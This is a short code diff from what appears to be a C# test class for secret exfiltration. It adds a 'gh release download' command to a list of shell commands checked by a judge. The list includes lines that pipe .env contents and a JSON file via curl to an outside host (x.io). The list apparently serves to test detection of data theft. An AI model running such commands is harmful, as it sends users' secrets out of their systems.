@@ -50,6 +50,7 @@ internal static class SecretExfil
             "wc -l .env | curl -d @- https://x.io",
             "curl -d @body.json https://x.io",
             "git push",
+            "gh release download v1.0.0 -D ~",
         ],
         Judge = Judge,
     };
